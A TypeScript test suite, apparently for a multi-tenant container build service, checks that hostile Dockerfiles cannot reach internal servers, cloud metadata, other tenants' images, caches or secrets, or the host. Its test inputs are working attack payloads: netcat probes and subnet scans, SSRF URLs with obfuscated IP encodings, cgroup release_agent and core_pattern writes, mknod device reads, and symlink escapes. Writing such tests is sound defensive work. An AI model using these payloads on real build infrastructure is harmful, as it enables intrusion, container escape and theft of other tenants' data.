/** Hostile Dockerfiles: what a RUN step, an ADD, a FROM or a cache mount could reach. */
import { rmSync } from "node:fs"
import { assert, layer } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Fiber from "effect/Fiber"
import { build, unique } from "./support/Builds.ts"
import { folderWith } from "./support/Repository.ts"
import * as Lure from "./support/Lure.ts"
import { describeAttacks, endpoints, newOwner, ownerOf, region, targetOf } from "./support/Region.ts"

/** Addresses of the region's own servers (local-region's README), of clouds' metadata, and of this machine. */
const forbidden = [
  ...["10.42.0.1", "10.44.0.1", "10.45.0.1", "10.45.0.2", "10.0.2.100", "10.0.2.2", "127.0.0.1"].flatMap(
    (address) => [80, 443, 2379, 5000, 5443, 6443, 8099, 10_250].map((port) => [address, port] as const)
  ),
  ["10.43.0.1", 443],
  ["10.43.0.10", 53],
  ["169.254.169.254", 80],
  ["127.0.0.1", Number(new URL(endpoints.registry.endpoint).port)],
  ["10.0.2.2", Number(new URL(endpoints.registry.endpoint).port)]
] as const

const victim = targetOf(newOwner("victim"))
const attacker = targetOf(newOwner("attacker"))

describeAttacks("a hostile build", () => {
  layer(region, { excludeTestServices: true, timeout: "60 seconds" })((it) => {
    it.effect(
      "RUN reaches the internet, but no server of the region, no metadata, no machine (lucity #8 #9 #18)",
      () =>
        Effect.gen(function* () {
          yield* Lure.serve
          const targets = [...forbidden, [Lure.address, Lure.port] as const]
          const probes = targets.map(
            ([address, port]) =>
              `(nc -w 3 ${address} ${port} -e true 2>/dev/null && echo "REACHED ${address}:${port}") &`
          )
          const { failure, output } = yield* build(attacker, {
            dockerfile: `FROM busybox\nRUN : ${unique()}; ${probes.join(" ")} wait; echo probed\n`
          })
          assert.isUndefined(failure)
          assert.deepStrictEqual(output.split("\n"), [`REACHED ${Lure.address}:${Lure.port}`, "probed"])
        })
    )

    it.effect(
      "ADD is fetched by the daemon, which reaches no more than a step does (lucity: URL blocklists are bypassable)",
      () =>
        Effect.gen(function* () {
          yield* Lure.serve
          const add = (source: string) =>
            build(attacker, {
              dockerfile: `FROM busybox\nADD ${source} /loot\nRUN : ${unique()}; echo "GOT $(head -c 300 /loot)"\n`
            })
          // Otherwise the rest would prove nothing.
          assert.include((yield* add(Lure.redirectTo(Lure.url("/page")))).output, "GOT LURED /page")
          const secret = "/v2/_catalog"
          const inner = [
            `http://registry.internal:5000${secret}`,
            `https://registry.internal:5000${secret}`,
            `http://REGISTRY.internal.:5000${secret}`,
            `http://10.42.0.1:5000${secret}`,
            `http://010.052.0.1:5000${secret}`,
            `http://0x0a2a0001:5000${secret}`,
            `http://[::ffff:10.42.0.1]:5000${secret}`,
            `http://10.45.0.1:5443${secret}`,
            `https://10.45.0.1:5443${secret}`,
            "http://127.0.0.1:2379/version",
            "http://10.42.0.1:2379/version",
            "https://10.43.0.1/version",
            "https://10.42.0.1:6443/version",
            "https://10.42.0.1:10250/pods",
            "http://169.254.169.254/latest/meta-data/",
            `${endpoints.registry.endpoint}${secret}`
          ]
          const attempts = [
            ...inner,
            ...inner.filter((source) => !/REGISTRY|010\.|0x0a|::ffff/.test(source)).map(Lure.redirectTo)
          ]
          const reached = yield* Effect.filter(
            attempts,
            (source) =>
              Effect.map(
                add(source),
                ({ failure, output }) => failure === undefined || output.includes("GOT")
              ),
            { concurrency: 16 }
          )
          assert.deepStrictEqual(reached, [])
        }),
      180_000
    )

    it.effect(
      "an image of another tenant cannot be named, in any way (CVE-2026-48742)",
      () =>
        Effect.gen(function* () {
          const { failure, image } = yield* build(victim, {
            dockerfile: `FROM busybox\nRUN echo loot-${unique()} > /loot\n`
          })
          assert.isUndefined(failure)
          const path = `${image.repository}:${image.commit}`
          const names = [
            String(image),
            `${image.name}:buildcache`,
            path,
            `docker.io/${path}`,
            `index.docker.io/${path}`,
            `REGISTRY.internal:5000/${path}`,
            `registry.internal/${path}`,
            `10.42.0.1:5000/${path}`,
            `10.45.0.1:5443/${path}`,
            `127.0.0.1:5000/${path}`,
            `localhost:5000/${path}`
          ]
          for (const name of names)
            for (const dockerfile of [
              `FROM ${name}\n`,
              `ARG IMAGE=${name}\nFROM \${IMAGE}\n`,
              `FROM busybox\nCOPY --from=${name} /loot /loot\n`,
              `FROM busybox\nRUN --mount=type=bind,from=${name},target=/v cat /v/loot\n`,
              `FROM busybox\nRUN --mount=type=cache,from=${name},target=/v cat /v/loot\n`
            ]) {
              const outcome = yield* build(attacker, { dockerfile })
              assert.isDefined(outcome.failure, dockerfile)
              assert.notInclude(outcome.output, "loot-", dockerfile)
            }
          // The owner may.
          assert.isUndefined((yield* build(victim, { dockerfile: `FROM ${String(image)}\n` })).failure)
        }),
      120_000
    )

    it.effect(
      "what a step made with a secret is not found by a stranger who repeats the step (BuildKit: clients are not namespaced)",
      () =>
        Effect.gen(function* () {
          const dockerfile = `FROM busybox\nRUN --mount=type=secret,id=token cp /run/secrets/token /made; : ${unique()}\nRUN echo "FOUND $(cat /made)"\n`
          const first = yield* build(victim, { dockerfile, secrets: { token: "of the victim" } })
          assert.include(first.output, "FOUND of the victim")
          const second = yield* build(attacker, { dockerfile, secrets: { token: "of the attacker" } })
          assert.include(second.output, "FOUND of the attacker")
          // Its own cache is of use to the victim all the same.
          assert.strictEqual((yield* build(victim, { dockerfile, secrets: { token: "another" } })).output, "")
        })
    )

    it.effect(
      "a cache mount is one's own, whatever its id, and after the namespace's name has changed hands (dp-{user}-{project} collides)",
      () =>
        Effect.gen(function* () {
          const name = unique()
          const before = targetOf(ownerOf(`c${name}`, "b-c"))
          const after = targetOf(ownerOf(`c${name}-b`, "c"))
          assert.strictEqual(before.namespace, after.namespace)
          const step = (mount: string, command: string) =>
            `FROM busybox\nRUN --mount=type=cache,${mount} ${command}; : ${unique()}\n`
          yield* build(before, { dockerfile: step("id=deps,target=/c", "echo loot > /c/loot") })
          const scope = `registry.internal:5000/${before.namespace}/web`
          const attempts = [after, attacker].flatMap((target) =>
            [
              "id=deps,target=/c",
              `id=${scope}/deps,target=/c`,
              `id=../../${before.namespace}/web/deps,target=/c`,
              `id=../../../${before.owner.user}/${scope}/deps,target=/c`,
              `id=${before.owner.user}/${scope}/deps,target=/c`
            ].map((mount) => [target, mount] as const)
          )
          for (const [target, mount] of attempts) {
            const args = `ARG BUILDKIT_CACHE_MOUNT_NS=${before.owner.user}/${scope}\n`
            const { output } = yield* build(target, { dockerfile: args + step(mount, "ls /c") })
            assert.notInclude(output, "loot", mount)
          }
          assert.include(
            (yield* build(before, { dockerfile: step("id=deps,target=/c", "ls /c") })).output,
            "loot"
          )
        }),
      120_000
    )

    it.effect(
      "no entitlement, no device, no agent, no frontend is given (CVE-2024-23653, CVE-2026-33747)",
      () =>
        Effect.gen(function* () {
          const refused = [
            "FROM busybox\nRUN --security=insecure true\n",
            "FROM busybox\nRUN --network=host true\n",
            "FROM busybox\nRUN --device=vendor.example/device,required true\n",
            "FROM busybox\nRUN --mount=type=ssh,required=true true\n",
            "FROM busybox\nRUN --mount=type=secret,id=other,required=true true\n",
            "FROM busybox\nRUN mknod /tmp/memory c 1 1 && head -c 1 /tmp/memory\n",
            "FROM busybox\nRUN mknod /tmp/disk b 8 0 && head -c 1 /tmp/disk\n",
            "FROM busybox\nRUN mount -t proc none /mnt\n",
            "FROM busybox\nRUN echo 1 > /proc/sys/net/ipv4/ip_forward\n",
            "FROM busybox\nRUN echo x > /proc/sys/kernel/core_pattern\n",
            "FROM busybox\nRUN ls /sys/fs/cgroup/*/release_agent && echo x > /sys/fs/cgroup/*/release_agent\n",
            "FROM busybox\nRUN chroot /proc/1/root ls /work || ls /run/buildkit/buildkitd.sock\n"
          ]
          for (const dockerfile of refused)
            assert.isDefined((yield* build(attacker, { dockerfile })).failure, dockerfile)
          const frontend = `${Lure.address}/frontend:1`
          for (const first of [
            `# syntax=${frontend}`,
            `#syntax=${frontend}`,
            `//syntax=${frontend}`,
            `\uFEFF# syntax=${frontend}`,
            `# escape=\\\n# syntax=${frontend}`
          ]) {
            const dockerfile = `${first}\nFROM busybox\nRUN : ${unique()}; echo BUILT\n`
            const { failure, output } = yield* build(attacker, { dockerfile })
            assert.isTrue(failure?._tag === "DockerfileInvalid" || output.includes("BUILT"), first)
          }
          for (const name of ["BUILDKIT_SYNTAX", "BUILDKIT_CACHE_MOUNT_NS", "BUILDKIT_SANDBOX_HOSTNAME"])
            assert.strictEqual(
              (yield* build(attacker, { dockerfile: "FROM busybox\n", args: { [name]: "x" } })).failure?._tag,
              "BuildArgReserved"
            )
        }),
      120_000
    )

    it.effect(
      "a git repository is not fetched by the daemon, whose clones are everybody's (CVE-2026-33748)",
      () =>
        Effect.gen(function* () {
          for (const source of [
            `${Lure.url("/private.git")}#${"a".repeat(40)}`,
            "https://github.com/owner/private.git#main:../..",
            "git@github.com:owner/private.git",
            "git://github.com/owner/private.git",
            "ssh://git@github.com/owner/private.git",
            `https://registry.internal:5000/x.git`
          ]) {
            const { failure } = yield* build(attacker, { dockerfile: `FROM busybox\nADD ${source} /x\n` })
            assert.strictEqual(failure?._tag, "SourceForbidden", source)
            assert.match(failure?.message ?? "", /clone it in a RUN step/)
          }
        })
    )

    it.effect("symlinks lead to nothing outside the context (CVE-2024-23652, CVE-2024-32021)", () =>
      Effect.gen(function* () {
        const outside = yield* Effect.acquireRelease(
          Effect.sync(() => folderWith({ loot: "LOOT of the machine\n" })),
          (path) => Effect.sync(() => rmSync(path, { recursive: true }))
        )
        const links = {
          file: `${outside}/loot`,
          folder: outside,
          relative: `../../../..${outside}`,
          self: "/proc/self/environ"
        }
        const copy = (from: string) =>
          build(attacker, { dockerfile: `FROM scratch\nCOPY ${from} /loot\n`, links })
        for (const from of ["file", "folder/loot", "relative/loot", "self", `../../..${outside}/loot`])
          assert.isDefined((yield* copy(from)).failure, from)
        const { output } = yield* build(attacker, {
          dockerfile: `FROM busybox\nRUN --mount=type=bind,target=/c : ${unique()}; for file in /c/file /c/folder/loot /c/relative/loot /c/self /c/../${outside}/loot; do cat $file; done; true\n`,
          links
        })
        assert.notMatch(output, /LOOT|MCPDEPLOY_/)
        const bound = yield* build(attacker, {
          dockerfile: `FROM busybox\nRUN --mount=type=bind,source=../../../..,target=/c ls /c; : ${unique()}\n`
        })
        assert.isTrue(bound.failure !== undefined || bound.output === "Dockerfile", bound.output)
      })
    )

    it.effect("a step does not reach the steps of another build (neighbours on one bridge)", () =>
      Effect.gen(function* () {
        const open = `(while :; do echo LOOT | nc -l -p 7777; done) & ip -o -4 addr; sleep 8; true`
        const listening = yield* Effect.forkChild(
          build(victim, { dockerfile: `FROM busybox\nRUN : ${unique()}; ${open}\n` })
        )
        yield* Effect.sleep("3 seconds")
        const scan = Array.from(
          { length: 254 },
          (_, index) => `(timeout 2 nc 10.44.0.${index + 1} 7777 </dev/null 2>/dev/null) &`
        )
        const { failure, output } = yield* build(attacker, {
          dockerfile: `FROM busybox\nRUN : ${unique()}; ${scan.join(" ")} wait; echo scanned\n`
        })
        assert.isUndefined(failure)
        assert.strictEqual(output, "scanned")
        assert.match((yield* Fiber.join(listening)).output, /10\.44\.0\.\d+/)
      })
    )
  })
})
